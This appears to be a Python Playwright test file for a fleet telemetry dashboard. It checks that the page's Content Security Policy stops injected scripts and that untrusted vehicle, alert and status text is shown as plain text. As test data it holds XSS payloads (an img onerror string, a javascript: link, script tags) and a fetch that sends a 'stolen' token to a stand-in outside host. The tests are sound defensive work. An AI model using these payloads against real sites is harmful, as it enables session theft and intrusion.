"""What the page does not let in: scripts that are not its own, and texts that would be some."""

from __future__ import annotations

import json

import pytest
from playwright.async_api import Page, Route, expect

from tests.browser.chromium import opened
from tests.browser.conftest import Quiet
from tests.browser.test_fleet import vehicles
from tests.e2e.system import get
from tests.programs import eventually, fleetwire, free_port
from wire.clock import now_ms
from wire.reading import Reading

EVIL = "<img src=x onerror=window.hacked=1>"
PLACE = {"CurrentLocation.Latitude": 52.5, "CurrentLocation.Longitude": 13.4}

# Each way in which a text could become a script, were it put into the page.
INJECT = """async () => {
    const seen = [];
    document.addEventListener("securitypolicyviolation", event => seen.push(event.effectiveDirective));
    const box = document.body.appendChild(document.createElement("div"));
    box.innerHTML = "<img src='data:,' onerror='window.hacked = 1'><a href='javascript:window.hacked = 2'>x</a>";
    box.appendChild(document.createElement("script")).textContent = "window.hacked = 3";
    box.appendChild(document.createElement("script")).src = "https://elsewhere.example/x.js";
    box.appendChild(document.createElement("iframe")).src = "https://elsewhere.example/";
    box.querySelector("a").click();
    setTimeout("window.hacked = 4");
    await fetch("https://elsewhere.example/?token=stolen").catch(() => {});
    await new Promise(resolve => setTimeout(resolve, 200));
    return seen;
}"""


async def test_what_is_injected_does_not_run_and_nothing_is_told_elsewhere(quiet: Quiet) -> None:
    async with opened(quiet.url, bears="Content Security Policy") as page:
        await expect(page.get_by_text("mosquitto_pub")).to_be_visible()
        seen = set(await page.evaluate(INJECT))
        assert {"script-src-attr", "script-src-elem", "connect-src"} <= seen
        assert await page.evaluate("window.hacked") is None


async def test_names_alerts_and_replies_are_text(quiet: Quiet) -> None:
    now = now_ms()
    topic = "fleets/berlin/v1"
    await quiet.store.readings(
        (f"{topic}/telemetry", Reading(now, {"Speed": 42.0, EVIL: 5.0, "Note": EVIL, **PLACE})),
        (f"{topic}/status", Reading(now, {"connectionState": EVIL})),
    )
    async with opened(quiet.url) as page:
        await expect(vehicles(page).get_by_role("row", name="v1 berlin")).to_be_visible()
        await page.get_by_label("Colour by").select_option(EVIL)
        await page.get_by_role("tab", name="Alerts").click()
        await quiet.store.readings((f"{topic}/alerts", Reading(now_ms(), {EVIL: EVIL})))
        await page.get_by_text(EVIL).first.click()
        await expect(page).to_have_url(f"{quiet.url}#/{topic}")
        await expect(page.get_by_text(EVIL).first).to_be_visible()
        await unharmed(page)


async def unharmed(page: Page) -> None:
    """That nothing which was sent has become a part of the page."""
    assert await page.locator("img[src=x]").count() == 0
    assert await page.evaluate("window.hacked") is None


STYLE = {
    "version": 8,
    "sources": {"points": {"type": "geojson", "data": "http://tiles.example/points.json"}},
    "layers": [{"id": "points", "type": "circle", "source": "points"}],
}
POINTS = {"type": "FeatureCollection", "features": []}


@pytest.mark.parametrize("allowed", [True, False], ids=["allowed", "refused"])
async def test_a_style_of_the_operator_s_comes_from_where_it_may(valkey_url: str, allowed: bool) -> None:
    port, asked = free_port(), []
    args = ("--port", str(port), "--redis-url", valkey_url)

    async def answer(route: Route) -> None:
        asked.append(route.request.url.rpartition("/")[2])
        body = json.dumps(STYLE if asked[-1] == "style.json" else POINTS)
        await route.fulfill(body=body, headers={"Access-Control-Allow-Origin": "*"})

    with fleetwire("stream", *args, *(["--map-origin", "http://tiles.example"] if allowed else [])) as _:
        await eventually(lambda: get(port, "/readyz"), 20)
        bears = "" if allowed else "http://tiles.example/style.json"
        async with opened(f"http://127.0.0.1:{port}/healthz", bears=bears or "favicon.ico") as page:
            await page.context.route("http://tiles.example/**", answer)
            heard: list[str] = []
            page.on("console", lambda message: heard.append(message.text))
            await page.goto(f"http://127.0.0.1:{port}/?style=http://tiles.example/style.json")
            if allowed:
                await eventually(lambda: asked == ["style.json", "points.json"], 20)
            else:
                await eventually(lambda: any("Content Security Policy" in text for text in heard), 20)
                assert asked == []
